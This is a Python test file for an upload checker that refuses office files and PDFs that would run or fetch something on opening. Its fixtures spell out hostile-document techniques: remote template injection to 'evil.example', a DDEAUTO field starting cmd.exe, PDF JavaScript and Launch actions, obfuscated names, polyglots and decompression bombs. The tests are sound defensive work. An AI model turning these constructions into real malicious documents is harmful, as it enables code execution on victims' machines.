"""Evidence that would run or fetch something when it is opened is refused, whatever its parts are called."""

import io
import zipfile
import zlib

import docx
import pytest
from openpyxl import Workbook

from improvement.uploads import UploadRefused, check_upload
from tests.workbooks import content_of

TYPES = '<Types xmlns="x"><Default Extension="xml" ContentType="application/xml"/>%s</Types>'
RELATION = '<Relationships><Relationship Id="r1" Type="http://x/officeDocument/%s" Target="http://evil.example/t"%s/></Relationships>'


def _named(name: str) -> str:
    """Return a part's name from a keyword: `word__header1__xml` is word/header1.xml."""
    *folders, stem, ending = name.split("__")
    return "/".join([*folders, f"{stem}.{ending}"])


def office(kind: str = "word/document.xml", types: str = "", **parts: bytes | str) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", TYPES % types)
        archive.writestr(kind, "<x/>")
        for name, data in parts.items():
            archive.writestr(_named(name), data)
    return stream.getvalue()


def related(kind: str, *, external: bool = True) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    stream = io.BytesIO(office())
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr("word/_rels/settings.xml.rels", RELATION % (kind, mode))
    return stream.getvalue()


def with_relations(relations: str, name: str = "word/_rels/settings.xml.rels") -> bytes:
    stream = io.BytesIO(office())
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr(name, relations)
    return stream.getvalue()


def pdf(*objects: bytes) -> bytes:
    return b"%PDF-1.7\n" + b"\n".join(objects) + b"\n%%EOF\n"


def packed(data: bytes, kind: bytes = b"/Type /ObjStm") -> bytes:
    return (
        b"9 0 obj << " + kind + b" /Filter /FlateDecode >>\nstream\n" + zlib.compress(data) + b"\nendstream"
    )


def with_link_to_a_workbook() -> bytes:
    stream = io.BytesIO(office("xl/workbook.xml"))
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr(
            "xl/externalLinks/_rels/externalLink1.xml.rels",
            RELATION % ("externalLinkPath", ' TargetMode="External"'),
        )
    return stream.getvalue()


VBA = '<Override PartName="/word/harmless.dat" ContentType="application/vnd.ms-office.vbaProject"/>'
SHEET = '<Override PartName="/xl/s.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
MACRO_DOCUMENT = '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
OLE = '<Default Extension="dat" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
REFUSED = {
    "macros under another name": ("a.docx", office(types=VBA), "macros"),
    "a macro sheet": ("a.xlsx", office("xl/workbook.xml", SHEET), "macros"),
    "a document that takes macros": ("a.docx", office(types=MACRO_DOCUMENT), "macros"),
    "macros by their name": ("a.docx", office(word__vbaProject__bin=b"1"), "macros"),
    "an object under another name": ("a.docx", office(types=OLE), "embedded programs"),
    "an ActiveX control": ("a.docx", office(word__activeX__activeX1__xml=b"1"), "embedded programs"),
    "a template from elsewhere": ("a.docx", related("attachedTemplate"), "fetches something"),
    "an object from elsewhere": ("a.docx", related("oleObject"), "embedded programs|fetches something"),
    "a frame from elsewhere": ("a.docx", related("frame"), "fetches something"),
    "a script in a PDF": (
        "a.pdf",
        pdf(b"<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"),
        "script",
    ),
    "a script spelt otherwise": ("a.pdf", pdf(b"<< /S /#4aava#53cript >>"), "script"),
    "a script in a packed part": ("a.pdf", pdf(packed(b"<< /S /JavaScript /JS 5 0 R >>")), "script"),
    "a script far behind in a packed part": (
        "a.pdf",
        pdf(packed(b" " * 2_000_000 + b"<< /S /JavaScript >>")),
        "script",
    ),
    "a packed part under another spelling": (
        "a.pdf",
        pdf(packed(b"<< /S /JavaScript >>", b"/Type /#4fbjStm")),
        "script",
    ),
    "packed twice": (
        "a.pdf",
        pdf(b"1 0 obj << /Type /ObjStm /Filter [/FlateDecode /FlateDecode] >>\nstream\nx"),
        "script",
    ),
    "packed in another way": (
        "a.pdf",
        pdf(b"1 0 obj << /Type /ObjStm /Filter /ASCIIHexDecode >>\nstream\n2f4a53>"),
        "script",
    ),
    "a protected PDF": ("a.pdf", pdf(b"trailer << /Encrypt 5 0 R >>"), "protected"),
    "a form that a PDF sends": ("a.pdf", pdf(b"<< /S /SubmitForm /F (http://x) >>"), "script"),
    "a page of another machine": ("a.pdf", pdf(b"<< /S /GoToR /F (\\\\host\\x) >>"), "script"),
    "a file by its entry alone": ("a.pdf", pdf(b"<< /Type /Filespec /EF << /F 5 0 R >> >>"), "attached file"),
    "a template spelt by character": (
        "a.docx",
        with_relations(RELATION % ("attached&#84;emplate", ' TargetMode="&#69;xternal"')),
        "fetches",
    ),
    "a template under a prefix": (
        "a.docx",
        with_relations(
            '<p:Relationships xmlns:p="x"><p:Relationship Type="http://x/attachedTemplate" Target="http://e/t" TargetMode="External"/></p:Relationships>'
        ),
        "fetches",
    ),
    "relations in capitals": (
        "a.docx",
        with_relations(
            RELATION % ("attachedTemplate", ' TargetMode="External"'), "word/_rels/settings.xml.RELS"
        ),
        "fetches",
    ),
    "a template behind a long comment": (
        "a.docx",
        with_relations(
            "<!--" + "x" * 5_000_000 + "-->" + RELATION % ("attachedTemplate", ' TargetMode="External"')
        ),
        "damaged|fetches",
    ),
    "a picture on another machine": (
        "a.docx",
        with_relations(
            (RELATION % ("image", ' TargetMode="External"')).replace(
                "http://evil.example/t", "\\\\host\\p.png"
            )
        ),
        "fetches",
    ),
    "a link to another machine's folder": (
        "a.docx",
        with_relations(
            (RELATION % ("hyperlink", ' TargetMode="External"')).replace(
                "http://evil.example/t", "file://host/x"
            )
        ),
        "fetches",
    ),
    "another document inside": ("a.docx", with_relations(RELATION % ("aFChunk", "")), "fetches"),
    "a document with macros inside": ("a.docx", office(word__embeddings__x__docm=b"1"), "embedded"),
    "a field that starts a program": (
        "a.docx",
        office(word__header1__xml='<w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText>'),
        "runs something",
    ),
    "a link that starts a program": (
        "a.xlsx",
        office(
            "xl/workbook.xml",
            xl__externalLinks__externalLink1__xml='<externalLink><ddeLink ddeService="cmd"/></externalLink>',
        ),
        "runs something",
    ),
    "data fetched at opening": (
        "a.xlsx",
        office(
            "xl/workbook.xml",
            xl__connections__xml='<connections><connection refreshOnLoad="1"/></connections>',
        ),
        "runs something",
    ),
    "a program behind a slide's button": (
        "a.pptx",
        office(
            "ppt/presentation.xml", ppt__slides__slide1__xml='<a:hlinkClick action="ppaction://program"/>'
        ),
        "runs something",
    ),
    "a program that a PDF starts": ("a.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>"), "script"),
    "a file within a PDF": ("a.pdf", pdf(b"<< /Type /EmbeddedFile >>"), "attached file"),
    "an archive behind a PDF": ("a.pdf", pdf() + office(), "two files in one"),
    "an archive behind a picture": ("a.png", b"\x89PNG\r\n\x1a\n" + office(), "two files in one"),
}


@pytest.mark.sandboxed
@pytest.mark.parametrize("case", REFUSED)
def test_what_would_run_is_refused(case):
    name, content, words = REFUSED[case]

    with pytest.raises(UploadRefused, match=words):
        check_upload(name, content)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.docx", related("hyperlink")),
        ("a.docx", related("image", external=False)),
        ("a.xlsx", with_link_to_a_workbook()),
        ("a.xlsx", content_of(Workbook())),
        ("a.pdf", pdf(b"<< /Type /Catalog >>", packed(b"(Java and scripts) Tj /JSONish"))),
        ("a.png", b"\x89PNG\r\n\x1a\n" + b"0" * 100),
    ],
)
def test_what_only_shows_is_taken(name, content):
    assert check_upload(name, content).name == name


def test_a_document_as_programs_write_it_is_taken():
    document, stream = docx.Document(), io.BytesIO()
    document.add_heading("Minutes")
    document.add_paragraph("See the annex.")
    document.save(stream)

    assert check_upload("minutes.docx", stream.getvalue()).content == stream.getvalue()


def test_a_pdf_that_unpacks_without_end_takes_nothing_long():
    pictures = pdf(*[packed(b"0" * 50_000_000, b"/Subtype /Image")] * 20)
    objects = pdf(*[packed(b"0" * 50_000_000)] * 20)

    assert check_upload("a.pdf", pictures).content == pictures
    with pytest.raises(UploadRefused, match="script"):
        check_upload("a.pdf", objects)
